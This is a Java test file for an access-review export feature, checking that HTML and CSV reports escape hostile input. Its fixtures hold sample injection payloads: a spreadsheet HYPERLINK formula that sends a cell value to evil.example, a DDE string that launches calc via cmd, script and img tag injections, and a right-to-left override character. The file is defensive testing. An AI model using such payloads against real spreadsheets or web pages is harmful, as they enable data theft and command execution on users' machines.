package dev.castellan.access.review;

import static dev.castellan.access.review.Worlds.BEN;
import static dev.castellan.access.review.Worlds.NOW;
import static dev.castellan.access.review.Worlds.campaign;
import static dev.castellan.access.review.Worlds.item;
import static dev.castellan.access.review.Worlds.world;
import static org.assertj.core.api.Assertions.assertThat;

import dev.castellan.access.Binding;
import dev.castellan.access.RoleId;
import dev.castellan.access.Subject;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.UUID;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;

/** Exports hold everything and can harm nobody who opens them. */
class ReviewExportTest {
    private static final String HOSTILE =
            "=HYPERLINK(\"https://evil.example/\"&A1,\"x\")</td><script>alert(1)</script>\u202Egnp\n\r\t'&\"";

    private static Campaign hostile() {
        var world = world().add(Binding.in("shop", "b\"><img src=x>", RoleId.in("shop", "r'"), Subject.user(HOSTILE)));
        Campaign c = campaign(world, Scope.ALL, BEN);
        return c.decide(
                List.of(new Campaign.Word(
                        item(c, "HYPERLINK").id(), Verdict.REMOVE, "@SUM(1+1)*cmd|' /C calc'!A0", Optional.empty())),
                BEN,
                NOW,
                UUID.randomUUID());
    }

    @Test
    void thePageLoadsNothingAndEscapesEverything() {
        String page = ReviewHtml.of(hostile(), NOW);
        assertThat(page)
                .contains("default-src 'none'")
                .doesNotContain("<script", "<img", "<link", "url(", "@import", "\u202E")
                .doesNotContainPattern("<[^>]*\\b(src|href|on[a-z]+)=")
                .contains("&lt;script&gt;alert(1)&lt;/script&gt;", "\\u202E", "\\u000A");
        // Nothing that came from outside opens an element or an attribute: all tags are ours.
        var tags = java.util.regex.Pattern.compile("<(/?[a-zA-Z!][^ >]*)").matcher(page);
        List<String> seen = new ArrayList<>();
        while (tags.find()) {
            seen.add(tags.group(1));
        }
        assertThat(seen.stream().map(t -> t.replace("/", "")).distinct())
                .isSubsetOf(
                        "!DOCTYPE",
                        "html",
                        "head",
                        "meta",
                        "title",
                        "style",
                        "body",
                        "main",
                        "p",
                        "h1",
                        "h2",
                        "bdi",
                        "span",
                        "div",
                        "dl",
                        "dt",
                        "dd",
                        "table",
                        "thead",
                        "tbody",
                        "tr",
                        "th",
                        "td",
                        "b",
                        "br");
    }

    @Test
    void thePageTellsWhoDecidedWhatAndWhoSigned() {
        Campaign c = hostile();
        String open = ReviewHtml.of(c, NOW);
        assertThat(open).contains("not signed yet", "To be removed (1)", "Not decided (4)", c.digest(), BEN);
        assertThat(open).contains(c.history().getFirst().entry().toString());
        Campaign done = c.decide(
                        c.items().stream()
                                .filter(i -> c.said(i.id()).isEmpty())
                                .map(i -> new Campaign.Word(i.id(), Verdict.KEEP, "", Optional.empty()))
                                .toList(),
                        BEN,
                        NOW,
                        UUID.randomUUID())
                .signOff(BEN, "all <checked>", NOW, UUID.randomUUID());
        assertThat(ReviewHtml.of(done, NOW))
                .contains("signed by every reviewer", "Kept (4)", "all &lt;checked&gt;")
                .doesNotContain("Not decided");
    }

    @Test
    void noFieldOfTheTableIsAFormula() {
        String csv = ReviewCsv.of(hostile());
        List<List<String>> rows = rows(csv);
        assertThat(rows).hasSize(6).allSatisfy(r -> assertThat(r).hasSize(16));
        assertThat(rows.stream().flatMap(List::stream)).allSatisfy(ReviewExportTest::harmless);
        assertThat(rows.stream().flatMap(List::stream))
                .anySatisfy(f -> assertThat(f).contains("HYPERLINK"))
                .anySatisfy(f -> assertThat(f).contains("ben@example.org: @SUM(1+1)"));
    }

    @Property(tries = 300)
    void noTextWhateverItIsBecomesAFormulaOrLeavesItsField(@ForAll String text) {
        String line = Shown.csv(text) + "," + Shown.csv("next") + "\r\n";
        List<List<String>> rows = rows(line);
        assertThat(rows).singleElement().satisfies(r -> assertThat(r).hasSize(2));
        harmless(rows.getFirst().getFirst());
        assertThat(Shown.html(text)).doesNotContain("<", ">", "\"", "'");
    }

    private static void harmless(String field) {
        String bare = field.stripLeading();
        if (!bare.isEmpty()) {
            assertThat("=+-@|%\uFF1D\uFF0B\uFF0D\uFF20").doesNotContain(bare.substring(0, 1));
        }
    }

    /** A reader of RFC 4180. */
    private static List<List<String>> rows(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    field.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    field.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',' || c == '\r') {
                row.add(field.toString());
                field.setLength(0);
                if (c == '\r') {
                    rows.add(row);
                    row = new ArrayList<>();
                    i++;
                }
            } else {
                field.append(c);
            }
        }
        return rows;
    }
}
